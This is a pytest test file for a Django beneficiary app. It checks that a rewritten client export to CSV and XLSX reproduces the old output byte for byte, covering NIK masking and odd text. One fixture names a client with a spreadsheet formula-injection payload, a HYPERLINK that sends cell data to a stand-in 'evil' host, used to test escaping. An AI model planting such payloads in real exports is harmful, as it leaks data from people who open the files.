"""The client list's export read as tuples (issue #18, part 4) writes what it wrote when it
read model instances: the old row builder is kept here as the oracle, and the rows, the
CSV's bytes and the XLSX's parts (all but its creation time) are compared with it, for
masked and full NIKs, on clients with formula-like text, no village, district or unit,
several PPKS types, disabilities of several kinds and devices, and no NIK, KK or date.

The XLSX's rows are written by `exports._SheetRows`, not by openpyxl: Hypothesis checks
that the sheet it writes is openpyxl's, byte for byte, whatever the text."""

import datetime
import io
import tempfile
import zipfile

import pytest
from django.core.signals import request_finished
from django.db import close_old_connections, transaction
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils.exceptions import IllegalCharacterError

from beneficiaries import exports, selectors
from beneficiaries.exports import HEADER, SEX, STATUS, _mask
from beneficiaries.filters import ClientFilter
from beneficiaries.models import AssistiveDevice, Client, DisabilityType, PpksType
from beneficiaries.tests.factories import BOJONEGORO, ClientFactory, upt
from core.spreadsheets import csv_writer, xlsx_row

# -- the oracle: the export as it was, over model instances and prefetches ---------------


def _old_rows(queryset, *, full_nik):
    queryset = (
        queryset.defer(None)
        .select_related("regency", "district", "village", "service_unit")
        .prefetch_related("ppks_types", "disabilities", "assistive_devices")
    )
    with transaction.atomic(savepoint=False):
        for client in queryset.iterator(chunk_size=2000):
            yield [
                client.registration_number,
                client.name,
                client.nik if full_nik else client.masked_nik,
                client.kk_number if full_nik else _mask(client.kk_number),
                SEX.get(client.sex, client.sex),
                client.birth_place,
                client.birth_date,
                client.address,
                client.village.name if client.village else "",
                client.district.name if client.district else "",
                client.regency.name,
                ", ".join(t.name for t in client.ppks_types.all()),
                ", ".join(d.name for d in client.disabilities.all()),
                ", ".join(d.name for d in client.assistive_devices.all()),
                client.phone,
                STATUS.get(client.status, client.status),
                client.service_unit.name if client.service_unit else "",
            ]


def _old_csv(queryset, *, full_nik) -> bytes:
    writer = csv_writer()
    lines = ["\ufeff" + writer.writerow(HEADER)]
    for row in _old_rows(queryset, full_nik=full_nik):
        if row[6]:
            row[6] = row[6].strftime("%d/%m/%Y")
        row[2] = f"'{row[2]}" if full_nik and row[2] else row[2]
        row[3] = f"'{row[3]}" if full_nik and row[3] else row[3]
        lines.append(writer.writerow(row))
    return "".join(lines).encode()


def _old_xlsx(queryset, *, full_nik) -> bytes:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Klien")
    header = []
    for label in HEADER:
        cell = WriteOnlyCell(sheet, value=label)
        cell.font = Font(bold=True)
        header.append(cell)
    sheet.append(xlsx_row(sheet, header))
    for row in _old_rows(queryset, full_nik=full_nik):
        if isinstance(row[6], datetime.date):
            cell = WriteOnlyCell(sheet, value=row[6])
            cell.number_format = "DD/MM/YYYY"
            row[6] = cell
        sheet.append(xlsx_row(sheet, row))
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def _parts(xlsx: bytes) -> dict[str, bytes]:
    """A workbook's parts, but its creation time (docProps/core.xml)."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return {
            name: archive.read(name) for name in archive.namelist() if name != "docProps/core.xml"
        }


# -- the clients ---------------------------------------------------------------------------


@pytest.fixture
def varied(db):
    """Clients whose rows exercise every column's cases."""
    ppks = {code: PpksType.objects.get(code=code) for code in ("01", "09", "14", "22")}
    kind_only = DisabilityType.objects.filter(kind_only=True).order_by("-kind__code")
    sub_types = DisabilityType.objects.filter(kind_only=False).order_by("-name")
    devices = AssistiveDevice.objects.order_by("-name")
    formulas = ClientFactory(
        name='=HYPERLINK("http://evil/?"&A1,"x")',
        birth_place="+62 Malang",
        address="-RT 01 & <RW 02>",
        phone="@0812",
        kk_number="3573011203050007",
        ppks_types=[ppks["22"], ppks["01"], ppks["09"]],  # written in their codes' order
    )
    formulas.disabilities.set([sub_types[0], kind_only[0], sub_types[5], kind_only[1]])
    formulas.assistive_devices.set(devices[:3])
    nowhere = ClientFactory(
        name="\t=1 Sri\r",
        address="\r=2",
        district=None,
        village=None,
        nik="",
        birth_date=None,
        sex=Client.Sex.MALE,
        status=Client.Status.MOVED,
    )
    in_upt = ClientFactory(
        name="  Ngatini • é 😀 ",
        status=Client.Status.CLIENT,
        service_unit=upt(),
        regency_code=BOJONEGORO,
        ppks_types=[ppks["14"]],
    )
    in_upt.disabilities.set([kind_only[2]])
    plain = ClientFactory.create_batch(3, status=Client.Status.DECEASED)
    plain[0].assistive_devices.set([devices[4]])
    return [formulas, nowhere, in_upt, *plain]


def _querysets(manager):
    """The client list's queryset as the views pass it (scoped, filtered, with its own
    `only`, joins and prefetch), and others: ordered otherwise, filtered by a PPKS type."""
    listed = ClientFilter({}, queryset=selectors.client_list(manager)).qs
    return {
        "list": listed,
        "all": Client.objects.all(),
        "newest first": Client.objects.order_by("-registration_number"),
        "by PPKS type": ClientFilter(
            {"ppks_type": PpksType.objects.get(code="09").pk},
            queryset=selectors.client_list(manager),
        ).qs,
    }


FULL_NIK = pytest.mark.parametrize("full_nik", [False, True], ids=["masked", "full NIK"])


@FULL_NIK
def test_rows_equal_the_old_rows(varied, manager, full_nik):
    for label, queryset in _querysets(manager).items():
        expected = list(_old_rows(queryset, full_nik=full_nik))
        assert expected, label
        assert list(exports.client_rows(queryset, full_nik=full_nik)) == expected, label


@FULL_NIK
def test_the_csv_is_the_old_csv_byte_for_byte(varied, manager, full_nik):
    for label, queryset in _querysets(manager).items():
        expected = _old_csv(queryset, full_nik=full_nik)
        output = io.BytesIO()
        written = exports.clients_csv_write(queryset, output, full_nik=full_nik)
        assert output.getvalue() == expected, label
        assert written == expected.count(b"\r\n") - 1
        response = exports.clients_csv_response(queryset, full_nik=full_nik)
        assert b"".join(response.streaming_content) == expected, label


@FULL_NIK
def test_the_xlsx_is_the_old_xlsx_part_for_part(varied, manager, full_nik):
    for label, queryset in _querysets(manager).items():
        expected = _old_xlsx(queryset, full_nik=full_nik)
        with tempfile.TemporaryFile() as output:
            written = exports.clients_xlsx_write(queryset, output, full_nik=full_nik)
            output.seek(0)
            assert _parts(output.read()) == _parts(expected), label
        assert written == queryset.count()
        response = exports.clients_xlsx_response(queryset, full_nik=full_nik)
        assert _parts(b"".join(response.streaming_content)) == _parts(expected), label


def test_an_empty_list_is_a_header(db, manager):
    queryset = Client.objects.none()
    output = io.BytesIO()
    assert exports.clients_csv_write(queryset, output, full_nik=False) == 0
    assert output.getvalue() == _old_csv(queryset, full_nik=False)
    output = io.BytesIO()
    assert exports.clients_xlsx_write(queryset, output, full_nik=False) == 0
    assert _parts(output.getvalue()) == _parts(_old_xlsx(queryset, full_nik=False))


@pytest.mark.parametrize("write", [exports.clients_csv_write, exports.clients_xlsx_write])
def test_progress_after_each_chunk_and_rows_across_chunks(varied, monkeypatch, write):
    """Chunks of 2 rows: the many-to-many names are fetched per chunk and still land on
    their rows; progress is told the rows done after each chunk, not after each row."""
    monkeypatch.setattr(exports, "CHUNK_SIZE", 2)
    queryset = Client.objects.all()
    done = []

    written = write(queryset, io.BytesIO(), full_nik=True, progress=done.append)

    assert written == len(varied) == 6
    assert done == [2, 4, 6]
    assert list(exports.client_rows(queryset, full_nik=True)) == list(
        _old_rows(queryset, full_nik=True)
    )


def test_a_download_stopped_halfway_leaves_the_transaction_usable(varied, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 2)
    with transaction.atomic():
        response = exports.clients_csv_response(Client.objects.all(), full_nik=False)
        pieces = iter(response.streaming_content)
        next(pieces), next(pieces)  # the header, the first chunk
        # Closed as the server closes it when the browser goes away (which also ends the
        # request: as the test client does, the database connection is kept open).
        request_finished.disconnect(close_old_connections)
        try:
            response.close()
        finally:
            request_finished.connect(close_old_connections)
        assert Client.objects.count() == 6  # no "transaction marked for rollback"


# -- Hypothesis: any text -------------------------------------------------------------------

# What a text field may hold (PostgreSQL refuses NUL; nothing else is refused).
_typed = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=40)
_FORMULA_STARTS = st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", " ", "'"])


@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    name=st.tuples(_FORMULA_STARTS, _typed).map("".join).filter(str.strip),
    address=st.tuples(_FORMULA_STARTS, _typed).map("".join),
    phone=_typed.map(lambda text: text[:20]),
    full_nik=st.booleans(),
)
def test_any_typed_text_makes_the_old_rows_and_csv(db, name, address, phone, full_nik):
    with transaction.atomic():
        ClientFactory(name=name, address=address, birth_place=address[:100], phone=phone)
        queryset = Client.objects.all()
        assert list(exports.client_rows(queryset, full_nik=full_nik)) == list(
            _old_rows(queryset, full_nik=full_nik)
        )
        output = io.BytesIO()
        exports.clients_csv_write(queryset, output, full_nik=full_nik)
        assert output.getvalue() == _old_csv(queryset, full_nik=full_nik)
        transaction.set_rollback(True)


# Text a worksheet can hold (XML 1.0): what openpyxl and lxml refuse is tested below.
_sheet_text = st.text(
    st.characters(
        exclude_categories=["Cs"],
        exclude_characters="".join(
            [
                *map(chr, range(0x09)),
                "\x0b",
                "\x0c",
                *map(chr, range(0x0E, 0x20)),
                "\ufffe",
                "\uffff",
            ]
        ),
    ),
    max_size=30,
)
_cell = st.one_of(
    st.none(),
    _sheet_text,
    st.tuples(_FORMULA_STARTS, _sheet_text).map("".join),
    st.sampled_from(["#N/A", "#REF!", "", " ", "\r\n"]),
    st.dates(min_value=datetime.date(1900, 1, 1), max_value=datetime.date(2100, 12, 31)),
)


def _openpyxl_and_ours(rows):
    """The same rows (dates in cells with a format, as the export makes them) written by
    openpyxl's write-only sheet and by `_SheetRows`: both workbooks' parts."""
    written = []
    for ours in (False, True):
        workbook = Workbook(write_only=True)
        sheet = workbook.create_sheet("Klien")
        target = exports._SheetRows(sheet) if ours else sheet
        header = [WriteOnlyCell(sheet, value="Nama"), WriteOnlyCell(sheet, value="=x")]
        for cell in header:
            cell.font = Font(bold=True)
        target.append(xlsx_row(sheet, header))
        for values in rows:
            row = []
            for value in values:
                if isinstance(value, datetime.date):
                    value = WriteOnlyCell(sheet, value=value)
                    value.number_format = "DD/MM/YYYY"
                row.append(value)
            target.append(xlsx_row(sheet, row))
        output = io.BytesIO()
        if ours:
            target.save(output)
        else:
            workbook.save(output)
        written.append(_parts(output.getvalue()))
    return written


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(_cell, max_size=20), max_size=6))
def test_sheet_rows_are_openpyxls_byte_for_byte(rows):
    openpyxls, ours = _openpyxl_and_ours(rows)
    assert ours == openpyxls


def test_sheet_rows_cut_text_where_openpyxl_does():
    openpyxls, ours = _openpyxl_and_ours([["x" * 40_000, " y" * 20_000]])
    assert ours == openpyxls


@pytest.mark.parametrize("text", ["a\x00b", "\x1b[0m", "a\x0bb", "\ufffe"])
def test_text_a_sheet_cannot_hold_is_refused(text):
    sheet = Workbook(write_only=True).create_sheet("Klien")
    with pytest.raises(IllegalCharacterError):
        exports._SheetRows(sheet).append(xlsx_row(sheet, ["ok", text]))
